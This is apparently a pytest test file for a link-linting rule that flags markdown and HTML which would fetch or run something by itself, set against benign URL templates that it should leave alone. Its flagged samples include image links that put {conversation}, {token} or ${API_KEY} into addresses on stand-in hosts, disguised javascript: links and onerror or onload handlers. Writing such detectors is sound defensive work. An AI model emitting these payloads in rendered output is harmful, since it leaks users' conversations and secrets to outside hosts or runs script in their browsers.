"""What a page would fetch or run by itself is told from addresses that a text only names."""

from __future__ import annotations

import pytest

from toolkit.lint.rules.links import carrying

CARRYING = [
    "![p](https://pictures.test/p.png?d={conversation})",
    "![p](//pictures.test/p.png?d={conversation})",
    "![p](https://pictures.test/%7Bsummary%7D.png)",
    "![p](https://pictures.test/p.gif?k=${API_KEY})",
    "![p](https://pictures.test/p.gif?k=$SECRET)",
    "![p](https://pictures.test/p.gif?k=<the answer>)",
    "![p](https://pictures.test/{q1}.png)",
    "Read [this][r].\n\n[r]: https://pages.test/?t={token}",
    "[next](<https://pages.test/?t={chat_history}>)",
    "<a class=x href='https://pages.test/?t={messages}'>x</a>",
    "<img alt='p' src='https://pictures.test/p.png?rows={rows}'>",
    "<img srcset='https://a.test/x.png 1x, https://a.test/y.png?q=<data> 2x'>",
    '<div style="background: url(https://pictures.test/{answer}.png)">x</div>',
    "<style>@import 'https://pages.test/?q={context}';</style>",
    "<form action='https://pages.test/?d={context}'></form>",
    "<link rel=preconnect href='https://{secret}.pages.test'>",
    "<iframe srcdoc='&lt;img src=&quot;https://a.test/{rows}.png&quot;&gt;'></iframe>",
    "[x](&#106;avascript:go)",
    "[x](<jav\tascript:go()>)",
    "<a href='vbscript:go'>x</a>",
    "<JavaScript:go(1)>",
    "<object data='data:text/html,x'></object>",
    "<script src='https://pages.test/x.js'></script>",
    "<img src=x onerror=go(1)>",
    "<svg onload='go(1)'>",
]
NAMING = [
    "GET https://api.test/users/{id}/posts{?page,limit}",
    "GET <https://api.test/users/{id}>",
    "Expands `https://api.test/{conversation}` as RFC 6570 says.",
    "A template such as ![alt](https://api.test/{conversation}.png).",
    "See [the docs](https://docs.test/a?b=c) and ![badge](https://badges.test/v1.svg).",
    "Shows each hit as [title](https://shop.test/items/{item_id}).",
    "Searches [here](https://pages.test/?q={query}).",
    "![map](https://tiles.test/{z}/{x}/{y}.png)",
    "![logo](https://{region}.pages.test/{owner}/{repo}.svg)",
    "```html\n<img src='https://a.test/{rows}.png'>\n```",
    "<img> elements get an alt text; <script> and <iframe> elements are dropped.",
    "Removes handlers, e.g. onclick='go()', of all elements.",
    "Blocks links that begin with javascript: or data:text/html.",
    "Detects <script>go()</script> in a page.",
    "javascript: the language of the snippet.",
    "What fits <script[^>]*>.*?</script> is left; and ``<script>go()</script>``.",
    "[<script>](https://docs.test/script)",
    "Put <iframe src=\"...\"></iframe> into it, or <script src='widget.js'></script>.",
    "![chart](https://charts.test/c?c={chart_config})",
    "List<string> of values; a < b and c > d.",
    "An image as data:image/png;base64,iVBORw0K.",
    "![pixel](data:image/png;base64,iVBORw0K)",
    "<div data-once='x'>y</div>",
]


@pytest.mark.parametrize("text", CARRYING)
def test_what_carries_data_or_runs_is_told(text: str) -> None:
    assert list(carrying(text))


@pytest.mark.parametrize("text", NAMING)
def test_an_address_that_is_only_named_is_no_fault(text: str) -> None:
    assert list(carrying(text)) == []
